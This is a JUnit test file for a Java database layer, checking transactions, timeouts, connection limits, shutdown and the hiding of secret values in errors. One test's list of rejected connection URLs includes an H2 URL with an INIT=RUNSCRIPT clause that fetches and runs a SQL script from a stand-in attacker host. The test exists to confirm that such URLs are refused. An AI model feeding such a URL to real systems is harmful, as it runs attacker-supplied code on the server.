package io.posterframe.database;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.posterframe.picture.Failure.DatabaseFailed;
import io.posterframe.picture.PictureException;
import io.vertx.core.Future;
import io.vertx.core.Vertx;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.jdbi.v3.core.Handle;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

class DatabaseTest {
    private static final String SECRET = "s3cret";

    private final Vertx vertx = Vertx.vertx();

    @TempDir
    Path folder;

    @AfterEach
    void close() {
        vertx.close().await();
    }

    @ParameterizedTest
    @EnumSource
    void whatWasCommittedIsThereWhenItIsOpenedAgain(TestDatabase kind) throws Exception {
        DatabaseConfig config = kind.fresh();
        try (Database database = Database.open(vertx, config, folder)) {
            database.transact(handle -> insert(handle, "100")).await();
        }
        try (Database database = Database.open(vertx, config, folder)) {
            assertEquals(List.of("100"), database.now(DatabaseTest::ids));
        }
    }

    @Test
    void whatWasCommittedIsInTheFileAtOnce() throws Exception {
        Path copy = folder.resolve("copy");
        try (Database database = TestDatabase.H2.open(vertx, folder.resolve("database"))) {
            database.now(handle -> insert(handle, "100"));
            // what a killed process leaves behind
            Files.createDirectories(copy);
            Files.copy(folder.resolve("database/posterframe.mv.db"), copy.resolve("posterframe.mv.db"));
        }
        try (Database database = TestDatabase.H2.open(vertx, copy)) {
            assertEquals(List.of("100"), database.now(DatabaseTest::ids));
        }
    }

    @ParameterizedTest
    @EnumSource
    void aTransactionThatFailsChangesNothing(TestDatabase kind) throws Exception {
        try (Database database = kind.open(vertx, folder)) {
            assertThrows(IllegalStateException.class, () -> database.transact(handle -> {
                        insert(handle, "100");
                        throw new IllegalStateException("changed its mind");
                    })
                    .await());
            assertEquals(List.of(), database.now(DatabaseTest::ids));
        }
    }

    @ParameterizedTest
    @EnumSource
    void aBrokenRuleIsAConflictThatTellsNoValues(TestDatabase kind) throws Exception {
        try (Database database = kind.open(vertx, folder)) {
            database.now(handle -> insert(handle, "100"));
            ConflictException conflict =
                    assertThrows(ConflictException.class, () -> database.now(handle -> insert(handle, "100")));
            assertTrue(Database.isConflict(conflict));
            assertFalse(conflict.toString().contains(SECRET), conflict.toString());
        }
    }

    @ParameterizedTest
    @EnumSource
    void aWrongStatementOrValueIsAFailureThatTellsNoValues(TestDatabase kind) throws Exception {
        try (Database database = kind.open(vertx, folder)) {
            for (String statement : List.of(
                    "insert into nowhere (id) values (:secret)",
                    "insert into partners (id, default_quality) values ('1', cast(:secret as integer))",
                    "insert into partners (id) values (repeat(:secret, 100))")) {
                PictureException problem = assertThrows(
                        PictureException.class,
                        () -> database.now(handle -> handle.createUpdate(statement)
                                .bind("secret", SECRET)
                                .execute()));
                assertInstanceOf(DatabaseFailed.class, problem.failure());
                assertFalse(problem.getMessage().contains(SECRET), problem.getMessage());
            }
        }
    }

    @ParameterizedTest
    @EnumSource
    void aStatementThatTakesTooLongIsGivenUp(TestDatabase kind) throws Exception {
        DatabaseConfig config = with(kind.fresh(), Duration.ofSeconds(5), Duration.ofSeconds(1), 10);
        try (Database database = Database.open(vertx, config, folder)) {
            assertInstanceOf(DatabaseFailed.class, failure(database.transact(handle -> handle.createQuery(
                            kind == TestDatabase.H2
                                    ? "select count(*) from system_range(1, 100000000000) where x % 2 = 3"
                                    : "select count(*) from generate_series(1, 100000000000)")
                    .mapTo(Long.class)
                    .one())));
            assertEquals(List.of(), database.now(DatabaseTest::ids));
        }
    }

    @Test
    void moreTransactionsThanMayWaitAreRefusedAtOnce() throws Exception {
        DatabaseConfig config = with(TestDatabase.H2.fresh(), Duration.ofSeconds(30), Duration.ofSeconds(30), 3);
        try (Database database = Database.open(vertx, config, folder)) {
            CountDownLatch end = new CountDownLatch(1);
            List<Future<Integer>> asked = new ArrayList<>();
            for (int i = 0; i < config.connections(); i++) {
                CountDownLatch running = new CountDownLatch(1);
                asked.add(database.transact(handle -> hold(running, end)));
                assertTrue(running.await(60, TimeUnit.SECONDS));
            }
            for (int i = 0; i < config.maxWaiting(); i++) {
                asked.add(database.transact(handle -> 1));
            }
            Future<Integer> refused = database.transact(handle -> 1);
            assertTrue(refused.failed());
            assertInstanceOf(DatabaseFailed.class, failure(refused));
            end.countDown();
            Future.all(asked).await();
            assertEquals(1, database.transact(handle -> 1).await());
        }
    }

    private static int hold(CountDownLatch running, CountDownLatch end) {
        running.countDown();
        try {
            end.await();
        } catch (InterruptedException e) {
            throw new IllegalStateException(e);
        }
        return 1;
    }

    @Test
    void whatWaitedForTooLongIsNotBegun() throws Exception {
        DatabaseConfig config = with(TestDatabase.H2.fresh(), Duration.ofMillis(250), Duration.ofSeconds(30), 10);
        try (Database database = Database.open(vertx, config, folder)) {
            List<Future<Integer>> slow = Stream.generate(() -> database.transact(handle -> sleep(600)))
                    .limit(config.connections())
                    .toList();
            assertInstanceOf(DatabaseFailed.class, failure(database.transact(handle -> 1)));
            Future.all(slow).await();
        }
    }

    private static int sleep(long millis) {
        try {
            Thread.sleep(millis);
        } catch (InterruptedException e) {
            throw new IllegalStateException(e);
        }
        return 1;
    }

    @ParameterizedTest
    @EnumSource
    void theEndWaitsForWhatRunsAndRefusesTheRest(TestDatabase kind) throws Exception {
        DatabaseConfig config = kind.fresh();
        Database database = Database.open(vertx, config, folder);
        CountDownLatch running = new CountDownLatch(1);
        Future<Integer> last = database.transact(handle -> {
            int rows = insert(handle, "100");
            running.countDown();
            sleep(200);
            return rows;
        });
        running.await();
        database.close();
        assertEquals(1, last.await());
        assertInstanceOf(DatabaseFailed.class, failure(database.transact(DatabaseTest::ids)));
        try (Database again = Database.open(vertx, config, folder)) {
            assertEquals(List.of("100"), again.now(DatabaseTest::ids));
        }
    }

    @Test
    void twoServersThatStartAtOnceMigrateOnce() throws Exception {
        DatabaseConfig config = TestDatabase.POSTGRESQL.fresh();
        List<Future<Database>> opening = Stream.generate(
                        () -> vertx.executeBlocking(() -> Database.open(vertx, config, folder), false))
                .limit(4)
                .toList();
        for (Future<Database> opened : opening) {
            try (Database database = opened.await()) {
                assertEquals(List.of(), database.now(DatabaseTest::ids));
            }
        }
    }

    @Test
    void aServerThatIsNotThereIsNamedAtTheStart() {
        DatabaseConfig config = with(
                TestDatabase.at("jdbc:postgresql://127.0.0.1:1/x"), Duration.ofMillis(300), Duration.ofSeconds(1), 10);
        IOException problem = assertThrows(IOException.class, () -> Database.open(vertx, config, folder));
        assertTrue(
                problem.getMessage().startsWith("the database can't be reached: Connection to 127.0.0.1:1 refused"),
                problem.getMessage());
    }

    @Test
    void onlyPostgresqlIsTakenAndItsUrlHoldsNoPassword() {
        for (String url : List.of(
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
                "jdbc:mysql://host/x",
                "jdbc:postgresql://host/x?user=me",
                "jdbc:postgresql://host/x?ssl=true&PASSWORD=" + SECRET,
                "jdbc:postgresql://me:" + SECRET + "@host/x")) {
            IllegalArgumentException problem = assertThrows(IllegalArgumentException.class, () -> TestDatabase.at(url));
            assertFalse(problem.getMessage().contains(SECRET), problem.getMessage());
        }
    }

    private static DatabaseConfig with(DatabaseConfig config, Duration connect, Duration query, int waiting) {
        return new DatabaseConfig(
                config.url(), config.user(), config.password(), config.connections(), connect, query, waiting);
    }

    private static int insert(Handle handle, String id) {
        return handle.createUpdate("insert into partners values"
                        + " (:id, '', 'active', :secret, null, null, null, false, false, now(), now())")
                .bind("id", id)
                .bind("secret", SECRET)
                .execute();
    }

    private static List<String> ids(Handle handle) {
        return handle.createQuery("select id from partners").mapTo(String.class).list();
    }

    private static Object failure(Future<?> future) {
        return assertThrows(PictureException.class, future::await).failure();
    }
}
